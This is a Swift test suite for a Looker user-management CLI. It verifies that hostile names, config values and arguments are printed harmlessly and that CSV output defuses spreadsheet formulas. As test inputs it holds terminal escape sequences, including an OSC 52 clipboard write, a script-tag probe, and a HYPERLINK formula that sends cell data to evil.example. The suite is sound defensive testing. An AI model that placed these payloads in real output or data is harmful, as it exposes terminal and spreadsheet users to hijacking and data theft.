import Foundation
import Testing
import TestSupport

/// One rule for every output channel: whatever the server, a config file or the command line
/// holds, nothing a terminal acts on reaches stdout or stderr, and JSON stays JSON. The real
/// binary against `roster sandbox --hostile-names` (escape sequences, OSC 52, CR, BEL, 0x9B, RLO,
/// zero-width characters, NUL, DEL, backspaces in names).
@Suite(.serialized) struct OutputSafetyTests {
    /// Ids of the sandbox's hostile users (the admin is 1; they come next).
    static let hostileIDs = (2...15).map(String.init)

    @Test func everyListingFormatIsInertAndJSONKeepsEveryUser() throws {
        let sandbox = try SandboxProcess(arguments: ["--hostile-names", "--users", "40"])
        var counts: [String: Int] = [:]
        for format in ["table", "csv", "json"] {
            let run = try runRoster(["users", "list", "--format", format, "--page-size", "7"], env: sandbox.env)
            #expect(run.status == 0, "\(format): \(run.stderrText)")
            expectInert(run, "users list --format \(format)")
            counts[format] = run.stdoutText.split(separator: "\n", omittingEmptySubsequences: false).count - 2
        }
        let json = try runRoster(["users", "list", "--format", "json"], env: sandbox.env)
        let users = try #require(try JSONSerialization.jsonObject(with: json.stdout) as? [[String: Any]])
        #expect(users.count == 54, "40 seeded users and 14 hostile ones")
        #expect(Set(users.compactMap { $0["id"] as? String }).isSuperset(of: Self.hostileIDs))
        #expect(counts["table"] == 54 && counts["csv"] == 54, "one line per user in every format: \(counts)")
        // The JSON keeps the text exactly, only escaped: a script gets the name the server has.
        let clear = users.first { $0["id"] as? String == "2" }
        #expect(clear?["first_name"] as? String == "\u{1b}[2J\u{1b}[H")
        #expect(json.stdoutText.contains(#""first_name":"\u001b[2J\u001b[H""#))
    }

    @Test func csvIsRFC4180WithFiveFieldsPerRecord() throws {
        let sandbox = try SandboxProcess(arguments: ["--hostile-names", "--users", "5"])
        let run = try runRoster(["users", "list", "--format", "csv"], env: sandbox.env)
        #expect(run.status == 0)
        let records = run.stdoutText.split(separator: "\n").map { csvFields(String($0)) }
        #expect(records.count == 20, "the header, the admin, 14 hostile users and 4 more")
        for record in records { #expect(record?.count == 5, "\(String(describing: record))") }
        let quoted = records.compactMap { $0 }.first { $0[0] == "14" }
        #expect(quoted?[1] == #"<script>alert(1)</script> "Quoted" \Slash"#, "quotes doubled and undone by a CSV reader")
        let bidi = records.compactMap { $0 }.first { $0[0] == "6" }
        #expect(bidi?[1] == "Bidi ⟨RLO⟩gpj.exe⟨PDF⟩", "the screen's markers, not the characters")
        // A name a spreadsheet would run as a formula is written as text.
        let formula = records.compactMap { $0 }.first { $0[0] == "15" }
        #expect(formula?[1] == #"'=HYPERLINK("http://evil.example/?"&A1,"open") Formula"#)
    }

    @Test func showingHostileUsersAndCredentialsIsInert() throws {
        let sandbox = try SandboxProcess(arguments: ["--hostile-names", "--users", "5"])
        for id in Self.hostileIDs {
            for command in [["users", "show"], ["credential", "show"]] {
                for format in ["table", "json"] {
                    let run = try runRoster(command + [id, "--format", format], env: sandbox.env)
                    #expect(run.status == 0, "\(command) \(id) \(format): \(run.stderrText)")
                    expectInert(run, "\(command.joined(separator: " ")) \(id) --format \(format)")
                    if format == "json" {
                        #expect((try? JSONSerialization.jsonObject(with: run.stdout)) is [String: Any], "\(command) \(id) parses")
                    }
                }
            }
        }
    }

    @Test func configErrorsAreInert() throws {
        let temporary = try TemporaryDirectory("roster-safety")
        defer { temporary.remove() }
        let dir = temporary.path
        // The file, the command run on it, and the exit code: an unknown key is only a warning.
        let cases: [(String, [String], Int32)] = [
            ("[Looker]\nbase_url=https://acme\u{1b}[2J\u{7}.looker.com\nclient_id=a\nclient_secret=b\n", ["users", "list"], 2),
            ("[Looker]\nbase_url=https://acme.looker.com\nclient_id=a\nclient_secret=b\nthe\u{1b}]52;c;eA==\u{7}me=x\n", ["config", "show"], 0),
            ("[Pro\u{1b}[31mfile\u{202E}]\nbase_url=not a url\u{9b}2J\n", ["users", "list"], 2),
        ]
        for (n, (text, command, status)) in cases.enumerated() {
            let path = dir + "/looker-\(n).ini"
            try text.write(toFile: path, atomically: true, encoding: .utf8)
            chmod(path, 0o600)
            let run = try runRoster(command + ["--config", path], env: [:], cwd: dir)
            #expect(run.status == status, "case \(n): \(run.stderrText)")
            #expect(run.stderrText.contains("looker-\(n).ini:"), "the message names the file and line: \(run.stderrText)")
            expectInert(run, "config case \(n)")
        }
        let profile = try runRoster(["config", "show", "--config", dir + "/looker-0.ini", "--profile", "x\u{1b}[2J\u{202E}"], env: [:], cwd: dir)
        #expect(profile.status == 2)
        expectInert(profile, "an unknown profile name")
    }

    @Test func argumentsAreCheckedWithExit2AndEchoedInert() throws {
        let sandbox = try SandboxProcess(arguments: ["--users", "20"])
        let bad: [[String]] = [
            ["users", "list", "--page-size", "0"], ["users", "list", "--page-size", "2001"], ["users", "show", ""],
            ["users", "show", "1/../2"], ["users", "show", "5", "--format", "csv"], ["credential", "show", "5", "--format", "csv"],
            ["users", "list", "--format", "x\u{1b}[2J"], ["users", "show", "a\u{1b}]52;c;eA==\u{7}"],
        ]
        for args in bad {
            let run = try runRoster(args, env: sandbox.env)
            #expect(run.status == 2, "\(args): \(run.stderrText)")
            #expect(run.stdout.isEmpty, "\(args)")
            expectInert(run, "\(args)")
        }
        let csv = try runRoster(["users", "show", "5", "--format", "csv"], env: sandbox.env)
        #expect(csv.stderrText.contains("'table' and 'json'"), "\(csv.stderrText)")
        let negative = try runRoster(["users", "show", "-1"], env: sandbox.env)
        #expect(negative.status == 4, "-1 is a value: the server does not know it. \(negative.stderrText)")
        #expect(!negative.stderrText.contains("Missing expected argument"))
    }

    @Test func absentFieldsShowAsUnknown() throws {
        let sandbox = try SandboxProcess(arguments: ["--users", "5"])
        let csv = try runRoster(["users", "list", "--fields", "id,email", "--format", "csv"], env: sandbox.env)
        let lines = csv.stdoutText.split(separator: "\n")
        #expect(lines.count == 6)
        let unknown = #"^[0-9]+,\?,[^,?]+,\?,\?$"#
        #expect(lines.dropFirst().allSatisfy { $0.range(of: unknown, options: .regularExpression) != nil },
                "name, logins and enabled unknown (enabled never yes): \(lines)")
        let full = try runRoster(["users", "list", "--format", "csv"], env: sandbox.env)
        #expect(full.stdoutText.split(separator: "\n").dropFirst().allSatisfy { $0.hasSuffix(",yes") || $0.hasSuffix(",no") })
    }

    @Test func globalOptionsBeforeTheSubcommandAndVersion() throws {
        let sandbox = try SandboxProcess(arguments: ["--users", "5"])
        let before = try runRoster(["--read-only", "users", "list", "--format", "csv"], env: sandbox.env)
        #expect(before.status == 0, "\(before.stderrText)")
        #expect(before.stdoutText.split(separator: "\n").count == 6)
        let refused = try runRoster(["--read-only", "credential", "update", "2", "--email", "a@b.co"], env: sandbox.env)
        #expect(refused.status == 5, "read-only given first still holds: \(refused.stderrText)")
        let missing = try runRoster(["--config", "/nonexistent/looker.ini", "users", "list"], env: [:])
        #expect(missing.status == 2 && missing.stderrText.contains("/nonexistent/looker.ini"), "\(missing.stderrText)")
        let version = try runRoster(["--version"], env: [:])
        #expect(version.status == 0)
        #expect(version.stdoutText.range(of: #"^roster \d+\.\d+\.\d+\n$"#, options: .regularExpression) != nil, "\(version.stdoutText)")
    }
}

/// The log and the journal found world-readable are made private, and the CLI says so on stderr.
@Suite(.serialized) struct PrivateStateTests {
    @Test func looseLogAndJournalAreTightenedWithAWarning() throws {
        let temporary = try TemporaryDirectory("roster-perm")
        defer { temporary.remove() }
        let state = temporary.path
        let dir = state + "/roster"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        for name in ["roster.log", "journal.jsonl"] {
            FileManager.default.createFile(atPath: dir + "/" + name, contents: Data())
            chmod(dir + "/" + name, 0o666)
        }
        chmod(dir, 0o777)
        let sandbox = try SandboxProcess(arguments: ["--users", "5"])
        let env = sandbox.env.merging(["XDG_STATE_HOME": state]) { $1 }
        let run = try runRoster(["credential", "update", "2", "--email", "two@example.com"], env: env)
        #expect(run.status == 0, "\(run.stderrText)")
        #expect(run.stderrText.contains("roster: warning: directory \(dir) had mode 0777; changed it to 0700"), "\(run.stderrText)")
        #expect(run.stderrText.contains("roster: warning: file \(dir)/roster.log had mode 0666; changed it to 0600"))
        #expect(run.stderrText.contains("roster: warning: file \(dir)/journal.jsonl had mode 0666; changed it to 0600"))
        func mode(_ path: String) -> Int { (try? FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int) ?? -1 }
        #expect(mode(dir) == 0o700 && mode(dir + "/roster.log") == 0o600 && mode(dir + "/journal.jsonl") == 0o600)
        #expect(((try? String(contentsOfFile: dir + "/journal.jsonl", encoding: .utf8)) ?? "").contains("two@example.com"))
        let again = try runRoster(["users", "list"], env: env)
        #expect(again.status == 0 && !again.stderrText.contains("warning"), "once private, nothing more to say")
    }
}

/// Problems a terminal could have with these bytes: C0 controls other than newline, DEL, C1 (raw
/// or UTF-8), invalid UTF-8, bidi controls and zero-width characters.
func terminalHazards(_ data: Data) -> [String] {
    var found: [String] = []
    for (i, b) in data.enumerated() where (b < 0x20 && b != 0x0A) || b == 0x7F {
        found.append(String(format: "byte 0x%02X at %d", b, i))
    }
    guard let text = String(validating: data, as: UTF8.self) else { return found + ["invalid UTF-8"] }
    for scalar in text.unicodeScalars {
        switch scalar.value {
        case 0x80...0x9F, 0x202A...0x202E, 0x2066...0x2069, 0x200E, 0x200F, 0x061C, 0x200B...0x200D, 0x2060, 0xFEFF:
            found.append(String(format: "U+%04X", scalar.value))
        default:
            break
        }
    }
    return found
}

func expectInert(_ run: CLIRun, _ what: String, sourceLocation: SourceLocation = #_sourceLocation) {
    #expect(terminalHazards(run.stdout).isEmpty, "stdout of \(what): \(terminalHazards(run.stdout).prefix(5))", sourceLocation: sourceLocation)
    #expect(terminalHazards(run.stderr).isEmpty, "stderr of \(what): \(terminalHazards(run.stderr).prefix(5))", sourceLocation: sourceLocation)
}

/// The fields of one CSV record (RFC 4180 quoting), or nil when it is not well formed.
func csvFields(_ line: String) -> [String]? {
    var fields: [String] = []
    var field = ""
    var quoted = false
    var chars = Array(line)[...]
    var atStart = true
    while let c = chars.popFirst() {
        if quoted {
            if c == "\"" {
                if chars.first == "\"" { field.append("\""); chars.removeFirst() } else { quoted = false }
            } else {
                field.append(c)
            }
        } else if c == "," {
            fields.append(field); field = ""; atStart = true; continue
        } else if c == "\"" {
            guard atStart else { return nil }
            quoted = true
        } else {
            field.append(c)
        }
        atStart = false
    }
    guard !quoted else { return nil }
    return fields + [field]
}

struct CLIRun {
    var status: Int32
    var stdout: Data
    var stderr: Data
    var stdoutText: String { String(decoding: stdout, as: UTF8.self) }
    var stderrText: String { String(decoding: stderr, as: UTF8.self) }
}

/// Runs the real binary with a private state directory (unless `env` names one); at most `timeout`
/// seconds, then it is killed and the test fails.
func runRoster(_ args: [String], env: [String: String], cwd: String? = nil, timeout: Double = 120,
               sourceLocation: SourceLocation = #_sourceLocation) throws -> CLIRun {
    let output = try TemporaryDirectory("roster-run")
    defer { output.remove() }
    let state = ["XDG_STATE_HOME": NSTemporaryDirectory() + "roster-safety-state",
                 "XDG_CONFIG_HOME": NSTemporaryDirectory() + "roster-safety-config-none"]
    let p = try Background(args, env: state.merging(env) { $1 }, dir: output.path, cwd: cwd ?? NSTemporaryDirectory())
    let status = p.waitForExit(timeout: timeout)
    if status == nil { Issue.record("roster \(args) did not finish in \(timeout) s", sourceLocation: sourceLocation) }
    return CLIRun(status: status ?? -1, stdout: p.stdoutData, stderr: p.stderrData)
}

/// The detector the tests above rely on finds each kind of hazard (so a leak would fail them).
@Suite struct HazardDetectorTests {
    @Test(arguments: ["\u{1b}[2J", "a\rb", "\u{7}", "\u{7f}", "\u{9b}", "\u{85}", "\u{202E}", "\u{2066}", "\u{200E}", "\u{061C}",
                      "\u{200B}", "\u{200D}", "\u{2060}", "\u{FEFF}", "\t", "\u{0}"])
    func findsIt(_ text: String) {
        #expect(!terminalHazards(Data(("ok " + text + " ok\n").utf8)).isEmpty)
    }

    @Test func findsRawC1AndInvalidUTF8() {
        #expect(!terminalHazards(Data([0x61, 0x9B, 0x32, 0x4A])).isEmpty)
        #expect(terminalHazards(Data("Zoë 山田 ⟨RLO⟩ ␛[2J 😀\n".utf8)).isEmpty)
    }
}
